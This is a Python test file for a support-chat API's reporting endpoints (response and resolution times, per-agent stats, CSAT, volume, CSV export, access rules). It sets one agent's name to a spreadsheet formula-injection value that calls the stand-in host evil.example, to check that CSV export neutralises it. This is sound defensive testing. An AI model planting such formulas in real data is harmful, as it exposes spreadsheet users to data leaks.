"""Reports (issue 5): first response, resolution, sessions per agent and
CSAT over a date range, as JSON and as CSV, checked against figures this
test computes from the timestamps the API itself returned; the ratings
list (GET /api/v1/feedback)."""

import calendar
import csv
import io
import time
import unittest
import urllib.parse

from parley_harness import (ServerTestCase, make_agent, make_customer, make_session,
                            send_message)


def ms(text):
    """RFC 3339 with milliseconds (as the API writes it) -> epoch ms, exactly."""
    base = calendar.timegm(time.strptime(text[:19], "%Y-%m-%dT%H:%M:%S"))
    return base * 1000 + int(text[20:23])


def round_div(total, count):
    """sum / count rounded half up, as docs/api-behaviour.md defines it."""
    return (2 * total + count) // (2 * count)


def nearest_rank(values, p):
    v = sorted(values)
    rank = max(1, -(-p * len(v) // 100))
    return v[rank - 1]


def stats(values):
    if not values:
        return {"count": 0, "avg_ms": None, "median_ms": None, "p90_ms": None}
    return {"count": len(values), "avg_ms": round_div(sum(values), len(values)),
            "median_ms": nearest_rank(values, 50), "p90_ms": nearest_rank(values, 90)}


def rating_avg(ratings):
    return round_div(sum(ratings) * 100, len(ratings)) / 100 if ratings else None


# a name a spreadsheet would run as a formula, with a comma and a quote
EVIL_NAME = '=HYPERLINK("http://evil.example/?x",1)'


class ReportsTest(ServerTestCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        srv = cls.server
        cls.a, cls.a_token, _, _ = make_agent(srv, cls.admin_token, name="Alice Agent")
        cls.b, cls.b_token, _, _ = make_agent(srv, cls.admin_token, name=EVIL_NAME)
        cls.cust, cls.cust_token = make_customer(srv)
        # (agent token or None, close?, rating or None)
        plan = [(cls.a_token, True, 5), (cls.a_token, True, 4), (cls.a_token, True, None),
                (cls.a_token, False, None), (cls.b_token, True, 1), (cls.b_token, True, 4),
                (cls.b_token, False, None), (None, False, None), (None, True, 3)]
        cls.sessions = []
        for token, close, rating in plan:
            s = make_session(srv, cls.cust_token)
            rec = {"id": s["id"], "created": ms(s["created_at"]), "agent": None,
                   "first": None, "closed": None, "rating": rating}
            send_message(srv, cls.cust_token, s["id"], "hello?")
            if token is not None:
                m = send_message(srv, token, s["id"], "hi, how can I help?")
                rec["first"] = ms(m["created_at"])
                rec["agent"] = cls.a["id"] if token == cls.a_token else cls.b["id"]
                # a second answer never moves the first response
                send_message(srv, token, s["id"], "still there?")
            if close:
                r = srv.client(cls.cust_token).post(f"/api/v1/sessions/{s['id']}/close")
                assert r.status == 200, r.body
                rec["closed"] = ms(r.body["closed_at"])
                assert r.body["closed_at"] == r.body["updated_at"]
            if rating is not None:
                r = srv.client(cls.cust_token).post(f"/api/v1/sessions/{s['id']}/feedback",
                                                    {"rating": rating, "comment": f"r{rating}"})
                assert r.status == 201, r.body
            cls.sessions.append(rec)
        # two sessions routed to a team by their topic: one answered by a, one waiting
        r = srv.client(cls.admin_token).post("/api/v1/teams", {"name": "Billing",
                                                               "topics": ["billing"]})
        assert r.status == 201, r.body
        cls.team = r.body
        for answer in (True, False):
            s = make_session(srv, cls.cust_token, topic="billing")
            assert s["team_id"] == cls.team["id"], s
            rec = {"id": s["id"], "created": ms(s["created_at"]), "agent": None, "first": None,
                   "closed": None, "rating": None, "team": cls.team["id"]}
            send_message(srv, cls.cust_token, s["id"], "my invoice?")
            if answer:
                m = send_message(srv, cls.a_token, s["id"], "let me look")
                rec["first"] = ms(m["created_at"])
                rec["agent"] = cls.a["id"]
            cls.sessions.append(rec)

    def report(self, kind, query="", token=None, expect=200):
        r = self.server.client(token or self.admin_token).get(
            f"/api/v1/reports/{kind}?from=2000-01-01" + query)
        self.assertStatus(r, expect)
        return r

    def test_session_records_first_response_and_close(self):
        for rec in self.sessions:
            got = self.server.client(self.admin_token).get(f"/api/v1/sessions/{rec['id']}").body
            self.assertEqual(ms(got["first_response_at"]) if got["first_response_at"] else None,
                             rec["first"])
            self.assertEqual(ms(got["closed_at"]) if got["closed_at"] else None, rec["closed"])

    def test_first_response(self):
        body = self.report("first-response").body
        want = stats([r["first"] - r["created"] for r in self.sessions if r["first"]])
        self.assertEqual({k: body[k] for k in want}, want)
        self.assertEqual(body["report"], "first-response")
        self.assertEqual(body["from"], "2000-01-01T00:00:00.000Z")
        self.assertIsNone(body["agent_id"])
        one = self.report("first-response", f"&agent_id={self.b['id']}").body
        want = stats([r["first"] - r["created"] for r in self.sessions
                      if r["agent"] == self.b["id"]])
        self.assertEqual({k: one[k] for k in want}, want)
        self.assertEqual(one["agent_id"], self.b["id"])

    def test_team_filter(self):
        """?team_id= keeps the sessions routed to that team, alone and with
        agent_id; the header says which team."""
        team = self.team["id"]
        mine = [r for r in self.sessions if r.get("team") == team]
        body = self.report("first-response", f"&team_id={team}").body
        want = stats([r["first"] - r["created"] for r in mine if r["first"]])
        self.assertEqual({k: body[k] for k in want}, want)
        self.assertEqual(want["count"], 1)
        self.assertEqual(body["team_id"], team)
        self.assertIsNone(self.report("first-response").body["team_id"])
        agents = self.report("agents", f"&team_id={team}").body["agents"]
        self.assertEqual([(a["agent_id"], a["handled"]) for a in agents], [(self.a["id"], 1)])
        self.assertEqual(self.report("agents", f"&team_id={team}&agent_id={self.b['id']}")
                         .body["agents"], [])
        day_ms = 24 * 3600 * 1000
        frm = min(r["created"] for r in mine) // day_ms * day_ms
        days = self.server.client(self.admin_token).get(
            f"/api/v1/reports/volume?from={frm}&team_id={team}").body["days"]
        self.assertEqual(sum(d["sessions"] for d in days), len(mine))
        self.assertEqual(self.report("csat", f"&team_id={team}").body["count"], 0)  # unrated
        self.assertGreater(self.report("csat").body["count"], 0)
        self.report("volume", "&team_id=" + "t" * 60, expect=400)
        nobody = self.report("first-response", "&team_id=tea_unknown").body
        self.assertEqual(nobody["count"], 0)

    def test_resolution(self):
        body = self.report("resolution").body
        want = stats([r["closed"] - r["created"] for r in self.sessions if r["closed"]])
        self.assertEqual({k: body[k] for k in want}, want)

    def test_agents(self):
        body = self.report("agents").body
        want = []
        for agent in sorted((self.a, self.b), key=lambda x: x["id"]):
            mine = [r for r in self.sessions if r["agent"] == agent["id"]]
            firsts = [r["first"] - r["created"] for r in mine]
            ratings = [r["rating"] for r in mine if r["rating"] is not None]
            want.append({"agent_id": agent["id"], "name": agent["name"], "handled": len(mine),
                         "closed": sum(1 for r in mine if r["closed"]),
                         "avg_first_response_ms": round_div(sum(firsts), len(firsts)),
                         "responded": len(firsts), "csat_average": rating_avg(ratings),
                         "csat_count": len(ratings)})
        self.assertEqual(body["agents"], want)

    def test_csat(self):
        body = self.report("csat").body
        ratings = [r["rating"] for r in self.sessions if r["rating"] is not None]
        self.assertEqual(body["count"], len(ratings))
        self.assertEqual(body["average"], rating_avg(ratings))
        self.assertEqual(body["distribution"],
                         [{"rating": n, "count": ratings.count(n)} for n in range(1, 6)])
        a_only = self.report("csat", f"&agent_id={self.a['id']}").body
        self.assertEqual(a_only["count"], 2)
        self.assertEqual(a_only["average"], 4.5)

    def test_range(self):
        # a range before everything is empty; the default range (the last 7
        # days) holds everything made just now
        empty = self.server.client(self.admin_token).get(
            "/api/v1/reports/first-response?from=2001-01-01&to=2001-01-02").body
        self.assertEqual((empty["count"], empty["avg_ms"], empty["median_ms"], empty["p90_ms"]),
                         (0, None, None, None))
        self.assertEqual(empty["to"], "2001-01-03T00:00:00.000Z")  # a date `to` is inclusive
        default = self.server.client(self.admin_token).get("/api/v1/reports/csat").body
        self.assertEqual(ms(default["to"]) - ms(default["from"]), 7 * 24 * 3600 * 1000)
        self.assertEqual(default["count"], 5)
        # the range is of session creation: one that starts after the last session is empty
        last = max(r["created"] for r in self.sessions)
        r = self.report("resolution", f"&to={last}").body  # exclusive end, epoch ms
        want = stats([x["closed"] - x["created"] for x in self.sessions
                      if x["closed"] and x["created"] < last])
        self.assertEqual({k: r[k] for k in want}, want)

    def test_csv(self):
        r = self.report("agents", "&format=csv")
        self.assertEqual(r.headers["content-type"].split(";")[0], "text/csv")
        self.assertIn("attachment", r.headers["content-disposition"])
        text = r.body if isinstance(r.body, str) else r.body.decode()
        self.assertTrue(text.endswith("\r\n"))
        rows = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(rows[0], ["agent_id", "name", "handled", "closed",
                                   "avg_first_response_ms", "responded", "csat_average",
                                   "csat_count"])
        json_rows = self.report("agents").body["agents"]
        self.assertEqual(len(rows), 1 + len(json_rows))
        by_id = {row[0]: row for row in rows[1:]}
        for j in json_rows:
            row = by_id[j["agent_id"]]
            expected_name = ("'" + j["name"]) if j["name"][0] in "=+-@" else j["name"]
            self.assertEqual(row[1], expected_name)
            self.assertEqual(row[2:6], [str(j["handled"]), str(j["closed"]),
                                        str(j["avg_first_response_ms"]), str(j["responded"])])
            self.assertEqual(row[6], "" if j["csat_average"] is None
                             else f"{j['csat_average']:.2f}")
        # RFC 4180 on the wire: the formula is neutralised, quoted, quotes doubled
        self.assertIn('"\'=HYPERLINK(""http://evil.example/?x"",1)"', text)
        csat = self.report("csat", "&format=csv").body
        csat = csat if isinstance(csat, str) else csat.decode()
        lines = csat.split("\r\n")
        self.assertEqual(lines[0], "rating,count")
        ratings = [x["rating"] for x in self.sessions if x["rating"] is not None]
        self.assertEqual(lines[1:6], [f"{n},{ratings.count(n)}" for n in range(1, 6)])
        fr = self.report("first-response", "&format=csv").body
        fr = fr if isinstance(fr, str) else fr.decode()
        head, row = list(csv.reader(io.StringIO(fr, newline="")))
        self.assertEqual(head, ["from", "to", "agent_id", "count", "avg_ms", "median_ms",
                                "p90_ms"])
        want = stats([x["first"] - x["created"] for x in self.sessions if x["first"]])
        self.assertEqual(row[3:], [str(want[k]) for k in ("count", "avg_ms", "median_ms",
                                                           "p90_ms")])

    def test_access_and_bad_input(self):
        for kind in ("first-response", "resolution", "agents", "csat"):
            self.report(kind, token=self.a_token, expect=403)
            self.report(kind, token=self.cust_token, expect=403)
            self.assertStatus(self.server.client().get(f"/api/v1/reports/{kind}"), 401)
        c = self.server.client(self.admin_token)
        self.assertError(c.get("/api/v1/reports/csat?from=last-week"), 400, "validation_failed",
                         "from")
        self.assertError(c.get("/api/v1/reports/csat?to=2026-13-01"), 400, "validation_failed",
                         "to")
        self.assertError(c.get("/api/v1/reports/csat?from=2026-02-01&to=2026-01-01"), 400,
                         "validation_failed", "from")
        self.assertError(c.get("/api/v1/reports/csat?format=xml"), 400, "validation_failed",
                         "format")
        self.assertError(c.get("/api/v1/reports/nope"), 404, "not_found")
        stamp = urllib.parse.quote("2026-01-01T10:00:00+02:00")
        r = c.get(f"/api/v1/reports/csat?from={stamp}")
        self.assertStatus(r, 200)
        self.assertEqual(r.body["from"], "2026-01-01T08:00:00.000Z")

    def test_volume_and_hours(self):
        """Per day and per hour of the week (UTC, Monday 0), from the
        creation times the API returned; the averages of each day are those
        of its sessions with a first response (a close)."""
        day_ms = 24 * 3600 * 1000
        first = min(r["created"] for r in self.sessions) // day_ms * day_ms
        last = max(r["created"] for r in self.sessions)
        frm = first - 2 * day_ms  # two empty days before
        body = self.server.client(self.admin_token).get(
            f"/api/v1/reports/volume?from={frm}&to={last + 1}").body
        self.assertEqual(body["report"], "volume")
        days = body["days"]
        want_days = (last // day_ms) - (frm // day_ms) + 1
        self.assertEqual(len(days), want_days)
        self.assertEqual([d["sessions"] for d in days[:2]], [0, 0])
        self.assertEqual((days[0]["avg_first_response_ms"], days[0]["avg_resolution_ms"]),
                         (None, None))
        self.assertEqual(days[0]["date"], time.strftime("%Y-%m-%d", time.gmtime(frm // 1000)))
        self.assertEqual(sum(d["sessions"] for d in days), len(self.sessions))
        for d in days:
            mine = [r for r in self.sessions
                    if time.strftime("%Y-%m-%d", time.gmtime(r["created"] // 1000)) == d["date"]]
            firsts = [r["first"] - r["created"] for r in mine if r["first"]]
            closes = [r["closed"] - r["created"] for r in mine if r["closed"]]
            self.assertEqual(d, {"date": d["date"], "sessions": len(mine),
                                 "first_response_count": len(firsts),
                                 "avg_first_response_ms": round_div(sum(firsts), len(firsts))
                                 if firsts else None,
                                 "resolution_count": len(closes),
                                 "avg_resolution_ms": round_div(sum(closes), len(closes))
                                 if closes else None})
        hours = self.report("hours").body["hours"]
        self.assertEqual(len(hours), 7 * 24)
        want = {}
        for r in self.sessions:
            t = time.gmtime(r["created"] // 1000)
            want[(t.tm_wday, t.tm_hour)] = want.get((t.tm_wday, t.tm_hour), 0) + 1
        self.assertEqual({(h["weekday"], h["hour"]): h["sessions"] for h in hours if h["sessions"]},
                         want)
        self.assertEqual(hours[0], {"weekday": 0, "hour": 0, "sessions": want.get((0, 0), 0)})
        # CSV beside each
        text = self.server.client(self.admin_token).get(
            f"/api/v1/reports/volume?from={frm}&to={last + 1}&format=csv").body
        text = text if isinstance(text, str) else text.decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(rows[0], ["date", "sessions", "first_response_count",
                                   "avg_first_response_ms", "resolution_count",
                                   "avg_resolution_ms"])
        self.assertEqual([r[:2] for r in rows[1:]], [[d["date"], str(d["sessions"])] for d in days])
        hcsv = self.report("hours", "&format=csv").body
        hcsv = hcsv if isinstance(hcsv, str) else hcsv.decode()
        self.assertEqual(hcsv.split("\r\n")[0], "weekday,hour,sessions")
        self.assertEqual(len(hcsv.strip().split("\r\n")), 1 + 7 * 24)
        # a day's range is bounded; agents and customers are refused
        c = self.server.client(self.admin_token)
        self.assertError(c.get("/api/v1/reports/volume?from=2000-01-01"), 400,
                         "validation_failed", "days")
        for kind in ("volume", "hours"):
            self.report(kind, token=self.a_token, expect=403)
            self.report(kind, token=self.cust_token, expect=403)

    def test_feedback_list(self):
        c = self.server.client(self.a_token)  # agents read ratings too
        seen, cursor = [], None
        for _ in range(20):
            r = c.get("/api/v1/feedback?limit=2" + (f"&cursor={cursor}" if cursor else ""))
            self.assertStatus(r, 200)
            self.assertLessEqual(len(r.body["feedback"]), 2)
            seen += r.body["feedback"]
            cursor = r.body["next_cursor"]
            if cursor is None:
                break
        rated = [x for x in self.sessions if x["rating"] is not None]
        self.assertEqual([f["session_id"] for f in seen], [x["id"] for x in reversed(rated)])
        self.assertEqual([(f["rating"], f["agent_id"]) for f in seen],
                         [(x["rating"], x["agent"]) for x in reversed(rated)])
        mine = c.get(f"/api/v1/feedback?agent_id={self.b['id']}").body["feedback"]
        self.assertEqual(sorted(f["rating"] for f in mine), [1, 4])
        future = c.get("/api/v1/feedback?from=2999-01-01").body["feedback"]
        self.assertEqual(future, [])
        first = min(ms(f["created_at"]) for f in seen)
        upto = c.get(f"/api/v1/feedback?to={first + 1}").body["feedback"]
        self.assertEqual([ms(f["created_at"]) for f in upto],
                         [ms(f["created_at"]) for f in seen if ms(f["created_at"]) <= first])
        self.assertError(self.server.client(self.cust_token).get("/api/v1/feedback"), 403,
                         "forbidden")
        self.assertError(c.get("/api/v1/feedback?from=soon"), 400, "validation_failed", "from")


if __name__ == "__main__":
    unittest.main()
